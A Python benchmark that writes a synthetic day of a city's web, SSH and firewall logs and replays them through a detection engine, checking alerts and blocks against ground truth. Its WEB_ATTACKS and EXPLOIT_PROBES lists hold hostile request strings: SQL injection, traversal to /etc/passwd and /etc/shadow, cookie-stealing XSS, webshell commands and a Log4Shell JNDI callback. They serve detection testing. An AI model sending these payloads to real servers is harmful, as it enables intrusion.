#!/usr/bin/env python3
"""A day of the city through the embedded engine (issue 20, "A city day").

usage: .venv/bin/python bench/city_day.py [--scale 1.0] [--seed 20] [--json] [--keep DIR]
       taskset -c 1 .venv/bin/python bench/city_day.py --scale 0.1 --json     # as measured

The plans govctl serves give the city's own scale: 1,193 sites, about 700,000 intercepted external
attacks a day. This bench writes such a day, seeded, into three log files (as the city's collectors
would hand them over) and replays them with what `govctl secops replay` runs: normalize → the bundled
Sigma rules → the decision engine in dry run (secops.replay.replay), in one process on one core.

The day (local time, CST +08:00, 2026-11-02), at --scale 1:
- web.log — nginx combined access lines of 1,193 sites (the referrer names the site; site popularity
  is Zipf-like), ~24 M lines of citizens, search-engine crawlers and the city's own uptime probes, with
  a day/night curve; among them the web attacks: a few heavy scanners (sqlmap/nikto-like, thousands of
  requests each), a long tail of manual attackers (SQL injection, traversal, XSS, webshells), and
  exploit-probing botnets (Log4Shell, ThinkPHP, PHPUnit…) spread over thousands of /24s, a few
  requests per member.
- auth.log — sshd syslog of two bastions and 400 hosts, ~2 M lines: administrators' logins (some
  mistype their password now and then: one or two tries, rarely all three of the ssh client's prompts
  and a new connection a minute later — they must never be blocked),
  automation's public-key logins, sessions, disconnects; among them brute force (heavy hitters, slow
  guessers, a botnet), password spraying and a few brute forces that end in a successful login.
- firewall.log — kernel drop lines of the three centers' boundary firewalls, ~4 M lines of internet
  background radiation (one to three ports a source), among them port scans (a few heavy sweepers,
  many small scanners).

Ground truth comes from the generator: every attacking source does enough to cross one of the bundled
rules' thresholds (a botnet member sending a single SSH try is not generated: per-address rules cannot
see it, range aggregation is another issue's work); the other sources are innocents. The generator
writes in a child process, streaming a minute at a time (only the attacks' schedule, ≈ 2 % of the lines,
is drawn ahead), so the engine's peak RSS is its own. `seconds` and `lines_per_second` are the replay alone (reading, normalizing,
detecting, deciding), not the writing.
"""
from __future__ import annotations

import argparse
import bisect
import calendar
import itertools
import json
import os
import random
import resource
import shutil
import subprocess
import sys
import tempfile
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]

TZ = 8 * 3600  # the city's logs carry local time (CST)
DAY = calendar.timegm((2026, 11, 2, 0, 0, 0)) - TZ  # 2026-11-02 00:00 CST as epoch
MINUTES = 1440
SITES = 1193
OPS_NETWORK = "10.20.0.0/16"  # the management zone: never blocked (the bench's allowlist)
BASTION = "10.20.1.10"  # hosts see administrators' logins coming from the bastion
AUTOMATION = "10.20.0.5"  # Ansible, public-key logins
PROBER = "10.20.0.7"  # the city's own uptime probes
SECURITY_SCANNER = "10.20.9.9"  # the security team's own scanner (allowlisted: alerted, never blocked)

# At --scale 1. Background lines, and attack sources per campaign kind (each: attack lines per source).
WEB_BACKGROUND = 24_000_000
SSH_BACKGROUND_LOGINS = 260_000  # automation's; each login writes ~6 lines (accepted, sessions, disconnect…)
FIREWALL_BACKGROUND = 4_000_000
CAMPAIGNS = {  # kind: (sources at scale 1, lines per source (min, max))
    "web_heavy_scanner": (20, (7_000, 12_000)),
    "web_manual": (8_000, (2, 14)),
    "web_exploit_botnet": (20_000, (2, 4)),
    "ssh_heavy_bruteforce": (10, (2_500, 4_000)),
    "ssh_bruteforce": (1_500, (15, 30)),
    "ssh_slow_bruteforce": (800, (11, 14)),
    "ssh_botnet": (4_000, (5, 6)),
    "ssh_spraying": (1_000, (6, 10)),
    "ssh_success_after_bruteforce": (3, (30, 40)),
    "fw_heavy_sweep": (8, (8_000, 16_000)),
    "fw_scanner": (2_500, (12, 40)),
}
ADMINS = 150

MONTH = "Nov"
_BSD_DAY = f"{MONTH}  2"

# Address pools. Citizens and attackers share the same ISP /16s (attackers are not in separate ranges)
# but never an address: citizens end in an even octet, attackers in an odd one.
CITIZEN_16S = [(a, b) for a in (36, 58, 60, 101, 111, 112, 113, 117, 120, 183, 222, 223) for b in range(96, 112)]
FOREIGN_16S = [(a, b) for a in (5, 31, 45, 46, 62, 77, 80, 89, 91, 103, 141, 176, 185, 193, 194, 195, 212, 217)
               for b in range(0, 256, 17)]
CRAWLERS = [("Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)", "220.181.108.%d"),
            ("Sogou web spider/4.0(+http://www.sogou.com/docs/help/webmasters.htm#07)", "123.126.113.%d"),
            ("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "157.55.39.%d")]
BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49",
    "Mozilla/5.0 (Linux; Android 14; V2309A) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
    "Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko",
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
]
PAGES = ["/", "/index.html", "/zwgk/tzgg/202611/t20261101_%d.html", "/xxgk/zcwj/%d.html", "/bsfw/grbs/index.html",
         "/static/js/app.%d.js", "/static/css/main.css", "/images/banner_%d.jpg", "/favicon.ico",
         "/api/v1/services?page=%d", "/api/v1/notices?size=20&page=%d", "/search?q=%%E7%%A4%%BE%%E4%%BF%%9D&p=%d",
         "/search?q=%%E5%%85%%AC%%E7%%A7%%AF%%E9%%87%%91+%%E6%%8F%%90%%E5%%8F%%96", "/hdjl/zxts/list_%d.html",
         "/robots.txt", "/sitemap.xml", "/login?redirect=%%2Fuser%%2Fcenter", "/user/center", "/download/form_%d.pdf"]
WEB_ATTACKS = [
    "/news.php?id=1%20union%20select%201,2,group_concat(table_name)%20from%20information_schema.tables",
    "/list.jsp?cat=2'%20or%20'1'='1", "/item?id=1%20and%20sleep(5)", "/q.php?k=1)%20and%20extractvalue(1,concat(0x7e,@@version))",
    "/../../../../etc/passwd", "/download?file=..%2f..%2f..%2fetc%2fshadow", "/static/%2e%2e/%2e%2e/windows/win.ini",
    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E", "/comment?c=%3Csvg/onload%3Dalert(1)%3E",
    "/uploads/shell.php", "/images/cmd.jsp", "/tmp/c99.php", "/upload/x.php?cmd=whoami", "/admin/wso.php",
]
EXPLOIT_PROBES = [
    "/?x=${jndi:ldap://%s/a}", "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/actuator/gateway/routes", "/boaform/admin/formLogin",
    "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/HNAP1/", "/solr/admin/cores?action=CREATE&name=x",
]
SCANNER_AGENTS = ["sqlmap/1.7.11#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)",
                  "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
                  "Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Mozilla/5.0 zgrab/0.x"]
SSH_USERS = ["root", "admin", "test", "oracle", "postgres", "user", "ubuntu", "ftpuser", "git", "guest", "mysql",
             "www", "deploy", "support", "pi", "hadoop", "jenkins", "nagios", "administrator", "operator"]
FW_PORTS_NOISE = [23, 2323, 445, 3389, 1433, 5900, 8080, 81, 6379, 22, 5555, 37215, 52869, 7547, 139, 1900]


def _scaled(n: float, scale: float, floor: int = 1) -> int:
    return max(floor, round(n * scale))


def citizen_ip(idx: int) -> str:
    a, b = CITIZEN_16S[idx % len(CITIZEN_16S)]
    rest = idx // len(CITIZEN_16S)
    return f"{a}.{b}.{rest % 256}.{2 + 2 * (rest // 256 % 126)}"


class Addresses:
    """Unique attacker addresses (odd last octet), from the citizens' ISP ranges and foreign ones."""

    def __init__(self, rnd: random.Random):
        self.rnd, self.used = rnd, set()

    def one(self, foreign_share: float = 0.6) -> str:
        rnd = self.rnd
        while True:
            a, b = rnd.choice(FOREIGN_16S if rnd.random() < foreign_share else CITIZEN_16S)
            ip = f"{a}.{b}.{rnd.randrange(256)}.{rnd.randrange(1, 254, 2)}"
            if ip not in self.used:
                self.used.add(ip)
                return ip


def diurnal(rnd: random.Random) -> list[float]:
    """Relative traffic per minute of the day: night trough, office-hours peaks (10:00, 15:30)."""
    import math
    w = []
    for m in range(MINUTES):
        h = m / 60
        w.append(0.15 + math.exp(-((h - 10) / 2.2) ** 2) + 0.9 * math.exp(-((h - 15.5) / 2.5) ** 2)
                 + 0.35 * math.exp(-((h - 20.5) / 1.8) ** 2))
    total = sum(w)
    return [x / total for x in w]


def spread(total: int, weights: list[float]) -> list[int]:
    """Integer counts per minute summing to `total`."""
    out, acc, done = [], 0.0, 0
    for w in weights:
        acc += w * total
        n = round(acc) - done
        out.append(n)
        done += n
    return out


def _bsd(t: float) -> str:
    s = int(t - DAY)
    return f"{_BSD_DAY} {s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d}"


def _clf(t: float) -> str:
    s = int(t - DAY)
    return f"02/Nov/2026:{s // 3600:02d}:{s // 60 % 60:02d}:{s % 60:02d} +0800"


class Day:
    """The schedule of the day's attacks and the ground truth; lines are written minute by minute."""

    def __init__(self, scale: float, seed: int):
        self.scale, self.seed = scale, seed
        self.rnd = random.Random(seed)
        self.addresses = Addresses(self.rnd)
        self.attackers: dict[str, str] = {}  # address → campaign kind
        # attack lines per file and minute: [(t, formatter args)]; only attacks are scheduled ahead (≈ 2 % of
        # the lines), the background is drawn as each minute is written
        self.attacks = {name: [[] for _ in range(MINUTES)] for name in ("web", "auth", "firewall")}
        self.attack_lines = {name: 0 for name in self.attacks}
        self.sites = [f"www.{'abcdefghjkmnpqrstwxyz'[i % 21]}{i:04d}.jz.gov.cn" for i in range(SITES)]
        zipf = [1 / (i + 1) ** 0.9 for i in range(SITES)]
        self.site_cum = list(itertools.accumulate(zipf))
        self.admins = [(f"op{i:03d}", f"10.30.{i // 50}.{10 + i % 50}") for i in range(_scaled(ADMINS, scale, 3))]
        self.hosts = [f"host-{i:03d}" for i in range(400)]
        for kind, (sources, (lo, hi)) in CAMPAIGNS.items():
            n = _scaled(sources, scale)
            # the heavy hitters' volume follows the scale with their number: a source each at small scales,
            # sending its share of the kind's lines
            self._volume = sources * scale / n
            for _ in range(n):
                getattr(self, "_" + kind)(lo, hi)

    def _add(self, file: str, t: float, item: tuple) -> None:
        m = int((t - DAY) // 60)
        if 0 <= m < MINUTES:
            self.attacks[file][m].append((t, item))
            self.attack_lines[file] += 1

    def _start(self, length: float) -> float:
        return DAY + self.rnd.uniform(0, 86400 - length - 1)

    def _site(self) -> str:
        return self.sites[bisect.bisect(self.site_cum, self.rnd.random() * self.site_cum[-1])]

    # ---------------------------------------------------------------- web campaigns
    def _web_heavy_scanner(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.8), self.rnd
        self.attackers[ip] = "web_heavy_scanner"
        n = max(50, round(rnd.randint(lo, hi) * self._volume))
        agent = rnd.choice(SCANNER_AGENTS)
        t = self._start(n / 3)
        site = self._site()
        for _ in range(n):
            t += rnd.expovariate(3)  # ~3 requests/s against one site
            self._add("web", t, (ip, "GET", rnd.choice(WEB_ATTACKS + EXPLOIT_PROBES[1:]), 404, agent, site))

    def _web_manual(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.5), self.rnd
        self.attackers[ip] = "web_manual"
        t = self._start(3600)
        site = self._site()
        for _ in range(rnd.randint(lo, hi)):
            t += rnd.expovariate(1 / 90)
            self._add("web", t, (ip, "GET", rnd.choice(WEB_ATTACKS), rnd.choice((404, 403, 200, 500)),
                                 rnd.choice(BROWSERS), site))

    def _web_exploit_botnet(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.7), self.rnd
        self.attackers[ip] = "web_exploit_botnet"
        t = self._start(600)
        callback = f"{rnd.choice(FOREIGN_16S)[0]}.{rnd.randrange(256)}.{rnd.randrange(256)}.{rnd.randrange(1, 255)}"
        for _ in range(rnd.randint(lo, hi)):
            t += rnd.uniform(0.5, 120)
            probe = rnd.choice(EXPLOIT_PROBES)
            self._add("web", t, (ip, "GET", probe % callback if "%s" in probe else probe, 404,
                                 "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", self._site()))

    # ---------------------------------------------------------------- ssh campaigns
    def _ssh_tries(self, ip: str, t: float, n: int, gap, users: list[str], host: str | None = None) -> float:
        """n password tries, as sshd with PAM logs them: per connection (one to three tries) a pam_unix failure
        line, the tries, and the close; an unknown account adds sshd's "Invalid user" line."""
        rnd = self.rnd
        host = host or rnd.choice(("bastion-1", "bastion-2"))
        i = 0
        while i < n:
            t += gap()
            user = users[i % len(users)]
            pid, port = rnd.randint(2000, 60000), rnd.randint(1024, 65535)
            invalid = user not in ("root", "admin", "oracle", "test", "deploy") and rnd.random() < 0.6
            if invalid:
                self._add("auth", t, (host, pid, f"Invalid user {user} from {ip} port {port}"))
            self._add("auth", t, (host, pid, "pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 "
                                             f"tty=ssh ruser= rhost={ip}" + ("" if invalid else f"  user={user}")))
            for _ in range(min(n - i, rnd.randint(1, 3))):
                self._add("auth", t, (host, pid, f"Failed password for {'invalid user ' if invalid else ''}{user} "
                                                 f"from {ip} port {port} ssh2"))
                i += 1
                t += rnd.uniform(0.5, 2)
            self._add("auth", t, (host, pid, f"Connection closed by {'invalid' if invalid else 'authenticating'} user "
                                             f"{user} {ip} port {port} [preauth]"))
        return t

    def _ssh_heavy_bruteforce(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.8), self.rnd
        self.attackers[ip] = "ssh_heavy_bruteforce"
        n = max(40, round(rnd.randint(lo, hi) * self._volume))
        self._ssh_tries(ip, self._start(n * 2), n, lambda: rnd.expovariate(0.5), ["root", "admin"] + SSH_USERS)

    def _ssh_bruteforce(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(), self.rnd
        self.attackers[ip] = "ssh_bruteforce"
        n = rnd.randint(lo, hi)
        self._ssh_tries(ip, self._start(n * 5), n, lambda: rnd.uniform(2, 8), ["root"])

    def _ssh_slow_bruteforce(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(), self.rnd
        self.attackers[ip] = "ssh_slow_bruteforce"
        n = rnd.randint(lo, hi)  # 11–14 tries, one connection every 2–3 min (pam line + try: 2 failures each):
        # under 5 failures a minute, over 20 an hour
        t = self._start(n * 180)
        for _ in range(n):
            t = self._ssh_tries(ip, t, 1, lambda: rnd.uniform(120, 170), ["root"])

    def _ssh_botnet(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.5), self.rnd  # members spread over the whole pool: thousands of /24s
        self.attackers[ip] = "ssh_botnet"
        n = rnd.randint(lo, hi)
        self._ssh_tries(ip, self._start(60), n, lambda: rnd.uniform(1, 6), ["root"], rnd.choice(self.hosts[:40]))

    def _ssh_spraying(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(), self.rnd
        self.attackers[ip] = "ssh_spraying"
        users = rnd.sample(SSH_USERS, rnd.randint(lo, min(hi, len(SSH_USERS))))  # one try per account
        t = self._start(600)
        for user in users:
            t = self._ssh_tries(ip, t, 1, lambda: rnd.uniform(20, 60), [user])

    def _ssh_success_after_bruteforce(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(), self.rnd
        self.attackers[ip] = "ssh_success_after_bruteforce"
        user = rnd.choice(("oracle", "test", "deploy"))
        t = self._ssh_tries(ip, self._start(400), rnd.randint(lo, hi), lambda: rnd.uniform(1, 5), [user], "host-007")
        self._add("auth", t + 3, ("host-007", rnd.randint(2000, 60000),
                                  f"Accepted password for {user} from {ip} port {rnd.randint(1024, 65535)} ssh2"))

    # ---------------------------------------------------------------- firewall campaigns
    def _fw_heavy_sweep(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(0.9), self.rnd
        self.attackers[ip] = "fw_heavy_sweep"
        n = max(40, round(rnd.randint(lo, hi) * self._volume))
        t, port = self._start(n / 20), rnd.randint(1, 1000)
        for _ in range(n):
            t += rnd.expovariate(20)
            port = port % 65535 + 1
            self._add("firewall", t, (rnd.choice(("fw-prod", "fw-dr", "fw-remote")), ip, port))

    def _fw_scanner(self, lo: int, hi: int) -> None:
        ip, rnd = self.addresses.one(), self.rnd
        self.attackers[ip] = "fw_scanner"
        n = rnd.randint(lo, hi)  # 12–40 ports within ~30 s
        t = self._start(60)
        fw = rnd.choice(("fw-prod", "fw-dr", "fw-remote"))
        for port in rnd.sample(range(1, 10000), n):
            t += rnd.uniform(0.05, 30 / n)
            self._add("firewall", t, (fw, ip, port))

    # ---------------------------------------------------------------- writing
    def write(self, folder: Path) -> dict:
        folder.mkdir(parents=True, exist_ok=True)
        weights = diurnal(self.rnd)
        counts = {"web": self._write_web(folder / "web.log", spread(_scaled(WEB_BACKGROUND, self.scale), weights)),
                  "auth": self._write_auth(folder / "auth.log", spread(_scaled(SSH_BACKGROUND_LOGINS, self.scale),
                                                                       weights)),
                  "firewall": self._write_firewall(folder / "firewall.log",
                                                   spread(_scaled(FIREWALL_BACKGROUND, self.scale), [1 / MINUTES] * MINUTES))}
        attack_lines = sum(self.attack_lines.values())
        lines = sum(counts.values())
        by_kind: dict[str, int] = {}
        for kind in self.attackers.values():
            by_kind[kind] = by_kind.get(kind, 0) + 1
        truth = {"scale": self.scale, "seed": self.seed, "files": {k: f"{k}.log" for k in counts},
                 "lines": lines, "lines_by_file": counts, "attack_lines": attack_lines,
                 "attack_lines_by_file": self.attack_lines, "background_lines": lines - attack_lines,
                 "background_per_attack_line": round((lines - attack_lines) / attack_lines, 1) if attack_lines else None,
                 "attackers_by_kind": by_kind, "attackers": sorted(self.attackers)}
        (folder / "truth.json").write_text(json.dumps(truth))
        return truth

    @staticmethod
    def _merge(background: list[tuple[float, str]], attacks: list[tuple[float, tuple]], fmt) -> list[str]:
        attacks.sort()
        merged = background + [(t, fmt(t, item)) for t, item in attacks]
        merged.sort(key=lambda x: x[0])
        return [line for _, line in merged]

    def _write_web(self, path: Path, per_minute: list[int]) -> int:
        rnd = random.Random(self.seed * 31 + 1)
        rand, choice, sites, cum = rnd.random, rnd.choice, self.sites, self.site_cum
        total_w, n_written = cum[-1], 0
        n_citizens = _scaled(2_000_000, self.scale, 2_000)

        def attack(t: float, item: tuple) -> str:
            ip, method, url, status, agent, site = item
            return (f'{ip} - - [{_clf(t)}] "{method} {url} HTTP/1.1" {status} {rnd.randint(150, 600)} '
                    f'"https://{site}/" "{agent}"\n')

        with open(path, "w", encoding="utf-8", buffering=1 << 20) as f:
            for m in range(MINUTES):
                t0 = DAY + m * 60
                lines = []
                for _ in range(per_minute[m]):
                    t = t0 + rand() * 60
                    r = rand()
                    site = sites[bisect.bisect(cum, rand() * total_w)]
                    if r < 0.93:
                        ip = citizen_ip(int(n_citizens * rand() ** 2.5))  # a few busy NATs, a long tail
                        agent = choice(BROWSERS)
                    elif r < 0.995:
                        agent, pattern = choice(CRAWLERS)
                        ip = pattern % (2 + 2 * int(rand() * 100))
                    else:
                        ip, agent = PROBER, "govctl-probe/1.0"
                    page = choice(PAGES)
                    if "%d" in page:
                        page = page % int(rand() * 5000)
                    s = rand()
                    status, size = (200, int(rand() * 90000) + 200) if s < 0.86 else (304, 0) if s < 0.96 else \
                        (404, 153) if s < 0.995 else (502, 157)
                    method = "POST" if page.startswith("/api") and s < 0.2 else "GET"
                    lines.append((t, f'{ip} - - [{_clf(t)}] "{method} {page} HTTP/1.1" {status} {size} '
                                     f'"https://{site}/" "{agent}"\n'))
                if m % 240 == 100:  # the security team's own scan of a few sites, four times a day
                    for i in range(_scaled(300, self.scale, 20)):
                        t = t0 + i * 50 / _scaled(300, self.scale, 20)
                        lines.append((t, f'{SECURITY_SCANNER} - - [{_clf(t)}] "GET {WEB_ATTACKS[i % len(WEB_ATTACKS)]} '
                                         f'HTTP/1.1" 404 153 "-" "Nessus SOAP"\n'))
                out = self._merge(lines, self.attacks["web"][m], attack)
                self.attacks["web"][m] = []
                f.writelines(out)
                n_written += len(out)
        return n_written

    def _write_auth(self, path: Path, logins_per_minute: list[int]) -> int:
        rnd = random.Random(self.seed * 31 + 2)
        rand, choice, randint = rnd.random, rnd.choice, rnd.randint
        admins, hosts, n_written = self.admins, self.hosts, 0
        later: list[list[tuple[float, str]]] = [[] for _ in range(MINUTES)]  # lines of sessions ending later
        # Administrators: about a dozen logins a day each at a bastion from the office, each followed by two or
        # three hops on to hosts through the bastion; in office hours mostly (the day's curve), some at night.
        admin_logins: list[list[tuple]] = [[] for _ in range(MINUTES)]
        minutes_cum = list(itertools.accumulate(diurnal(rnd)))
        for user, office in admins:
            for _ in range(8 + int(rand() * 9)):
                m = min(MINUTES - 1, bisect.bisect(minutes_cum, rand() * minutes_cum[-1]))
                t = DAY + m * 60 + rand() * 50
                admin_logins[m].append((t, user, office, choice(("bastion-1", "bastion-2"))))
                for hop in range(2 + int(rand() * 2)):
                    t += 20 + rand() * 600
                    mm = int((t - DAY) // 60)
                    if mm < MINUTES:
                        admin_logins[mm].append((t, user, BASTION, choice(hosts)))

        def sshd(t: float, host: str, pid: int, msg: str) -> tuple[float, str]:
            return t, f"{_bsd(t)} {host} sshd[{pid}]: {msg}\n"

        def attack(t: float, item: tuple) -> str:
            host, pid, msg = item
            return f"{_bsd(t)} {host} sshd[{pid}]: {msg}\n"

        with open(path, "w", encoding="utf-8", buffering=1 << 20) as f:
            for m in range(MINUTES):
                t0 = DAY + m * 60
                lines: list[tuple[float, str]] = []
                logins = [(t0 + rand() * 50, None, None, choice(hosts)) for _ in range(logins_per_minute[m])]
                logins += admin_logins[m]
                for t, user, ip, host in logins:
                    pid, port = randint(2000, 60000), randint(1024, 65535)
                    if user is None:  # automation: public-key logins to hosts
                        user, ip = "ansible", AUTOMATION
                        lines.append(sshd(t, host, pid, f"Accepted publickey for {user} from {ip} port {port} ssh2: "
                                                        f"ED25519 SHA256:Xq1{pid % 97:02d}kVb1bJ7mTn0wqP4s5Zk"))
                    else:
                        if rand() < 0.08:
                            # Mistyped: one or two tries, rarely all three prompts of the ssh client, then a new
                            # connection a minute or more later (looking the password up). sshd with PAM writes a
                            # pam_unix failure and a "Failed password" for the first try: 2 failures, then 1 per try.
                            tries = 3 if rand() < 0.05 else 1 + int(rand() * 2)
                            lines.append(sshd(t, host, pid, "pam_unix(sshd:auth): authentication failure; logname= "
                                                            f"uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}"))
                            for _ in range(tries):
                                lines.append(sshd(t, host, pid, f"Failed password for {user} from {ip} port {port} ssh2"))
                                t += 2 + rand() * 4
                            if tries == 3:
                                lines.append(sshd(t, host, pid, f"Connection closed by authenticating user {user} {ip} "
                                                                f"port {port} [preauth]"))
                                t += 65 + rand() * 120
                                pid, port = randint(2000, 60000), randint(1024, 65535)
                        lines.append(sshd(t, host, pid, f"Accepted password for {user} from {ip} port {port} ssh2"))
                    lines.append(sshd(t, host, pid, f"pam_unix(sshd:session): session opened for user {user}"
                                                    f"(uid={1000 + pid % 500}) by (uid=0)"))
                    lines.append((t, f"{_bsd(t)} {host} systemd-logind[512]: New session {pid} of user {user}.\n"))
                    end = t + 1 + rand() * (5 if user == "ansible" else 1800)
                    lines.append(sshd(end, host, pid, f"Received disconnect from {ip} port {port}:11: disconnected by user"))
                    lines.append(sshd(end, host, pid, f"Disconnected from user {user} {ip} port {port}"))
                    lines.append(sshd(end, host, pid, f"pam_unix(sshd:session): session closed for user {user}"))
                    if rand() < 0.3:  # health checks that open TCP and leave (load balancer, monitoring)
                        lines.append(sshd(t, host, pid + 1, f"Connection closed by {PROBER} port {port} [preauth]"))
                now = []
                for x in lines:
                    mm = int((x[0] - DAY) // 60)
                    if mm == m:
                        now.append(x)
                    elif mm < MINUTES:  # past the day's end: not written
                        later[mm].append(x)
                now.extend(later[m])
                later[m] = []
                out = self._merge(now, self.attacks["auth"][m], attack)
                self.attacks["auth"][m] = []
                f.writelines(out)
                n_written += len(out)
        return n_written

    def _write_firewall(self, path: Path, per_minute: list[int]) -> int:
        rnd = random.Random(self.seed * 31 + 3)
        rand, choice, n_written = rnd.random, rnd.choice, 0
        # background radiation: many sources, each knocking on one to three ports now and then
        n_sources = _scaled(600_000, self.scale, 500)

        def line(t: float, fw: str, ip: str, port: int) -> str:
            return (f"{_bsd(t)} {fw} kernel: [{(t - DAY) + 86400 * 40:.6f}] govctl-drop: IN=eth0 OUT= "
                    f"MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC={ip} DST=10.11.{int(t) % 4}.{10 + int(t) % 40} "
                    f"LEN=44 TOS=0x00 PREC=0x00 TTL=49 ID={int(t * 1000) % 65536} PROTO=TCP SPT={40000 + int(t * 7) % 20000} "
                    f"DPT={port} WINDOW=1024 RES=0x00 SYN URGP=0\n")

        def attack(t: float, item: tuple) -> str:
            return line(t, *item)

        with open(path, "w", encoding="utf-8", buffering=1 << 20) as f:
            for m in range(MINUTES):
                t0 = DAY + m * 60
                lines = []
                for _ in range(per_minute[m]):
                    t = t0 + rand() * 60
                    idx = int(n_sources * rand() ** 2)  # Mirai-like hosts knock often, most rarely
                    src = citizen_ip(idx) if idx % 3 else f"{FOREIGN_16S[idx % len(FOREIGN_16S)][0]}." \
                        f"{FOREIGN_16S[idx % len(FOREIGN_16S)][1]}.{idx // 7 % 256}.{2 + 2 * (idx // 1792 % 126)}"
                    port = FW_PORTS_NOISE[(idx + (int(rand() * 3) if idx % 2 else 0)) % len(FW_PORTS_NOISE)]
                    lines.append((t, line(t, choice(("fw-prod", "fw-prod", "fw-dr", "fw-remote")), src, port)))
                out = self._merge(lines, self.attacks["firewall"][m], attack)
                self.attacks["firewall"][m] = []
                f.writelines(out)
                n_written += len(out)
        return n_written


def generate(folder: Path, scale: float, seed: int) -> dict:
    return Day(scale, seed).write(folder)


def _rss_mb() -> float:
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE") / 2**20


def run_engine(folder: Path, truth: dict) -> dict:
    """The day through secops.replay.replay (what `govctl secops replay` runs), timed; checked against the truth."""
    sys.path.insert(0, str(ROOT))
    from secops.detect import load_rules
    from secops.replay import replay
    from secops.respond import Allowlist

    rules = load_rules()
    if rules.errors:
        raise SystemExit(f"bundled rules refused: {rules.errors}")
    rss_samples: list[tuple[int, float]] = []

    def progress(lines: int) -> None:
        if lines // 1_000_000 > (rss_samples[-1][0] // 1_000_000 if rss_samples else 0):
            rss_samples.append((lines, round(_rss_mb(), 1)))

    files = [folder / truth["files"][k] for k in ("web", "auth", "firewall")]
    cpu = time.process_time()
    result = replay(files, rules, Allowlist([OPS_NETWORK]), year=2026, tz_offset=TZ, progress=progress)
    cpu = time.process_time() - cpu
    attackers = set(truth["attackers"])
    alerted_sources = {a["source.ip"] for a in result["alerts"] if a["source.ip"]}
    blocked = set(result["blocked"])
    alerted = attackers & alerted_sources
    innocents_blocked = sorted(blocked - attackers)
    return {
        "lines": result["lines"], "seconds": result["seconds"], "lines_per_second": result["lines_per_second"],
        "cpu_seconds": round(cpu, 3),
        "rss_mb": round(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024, 1),
        "rss_mb_every_million_lines": rss_samples,
        "attackers": len(attackers), "alerted": len(alerted), "blocked": len(blocked),
        "innocents_blocked": len(innocents_blocked),
        "attackers_missed": sorted(attackers - alerted)[:20], "innocents_blocked_sample": innocents_blocked[:20],
        "alerts": len(result["alerts"]), "unparsed": result["unparsed"],
        "allowlisted_alerts": result["allowlisted_alerts"],
        "attack_lines": truth["attack_lines"], "background_lines": truth["background_lines"],
        "background_per_attack_line": truth["background_per_attack_line"],
        "attackers_by_kind": truth["attackers_by_kind"],
    }


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--scale", type=float, default=1.0, help="shrink (or grow) the day proportionally (default 1)")
    ap.add_argument("--seed", type=int, default=20)
    ap.add_argument("--json", action="store_true", help="print one JSON object")
    ap.add_argument("--keep", type=Path, metavar="DIR", help="write the day's files to DIR and keep them")
    ap.add_argument("--write-only", type=Path, metavar="DIR", help=argparse.SUPPRESS)  # the generator's child process
    a = ap.parse_args()
    if not 0 < a.scale <= 10:
        ap.error(f"--scale {a.scale}: give a factor above 0 and at most 10 (1 is the whole city's day)")
    if a.write_only:
        print(json.dumps({k: v for k, v in generate(a.write_only, a.scale, a.seed).items() if k != "attackers"}))
        return
    folder = a.keep or Path(tempfile.mkdtemp(prefix="city-day-"))
    try:
        started = time.perf_counter()
        subprocess.run([sys.executable, __file__, "--write-only", str(folder), "--scale", str(a.scale),
                        "--seed", str(a.seed)], check=True, stdout=subprocess.DEVNULL)
        generated = time.perf_counter() - started
        truth = json.loads((folder / "truth.json").read_text())
        out = {"scale": a.scale, "seed": a.seed, "load_average_at_start": [round(x, 2) for x in os.getloadavg()],
               "generate_seconds": round(generated, 1), **run_engine(folder, truth)}
    finally:
        if a.keep is None:
            shutil.rmtree(folder, ignore_errors=True)
    if a.json:
        print(json.dumps(out, ensure_ascii=False))
    else:
        for k, v in out.items():
            print(f"{k}: {v}")
    if out["alerted"] < out["attackers"] or out["innocents_blocked"]:
        raise SystemExit("ground truth not met: an attacker missed or an innocent blocked (see above)")


if __name__ == "__main__":
    main()
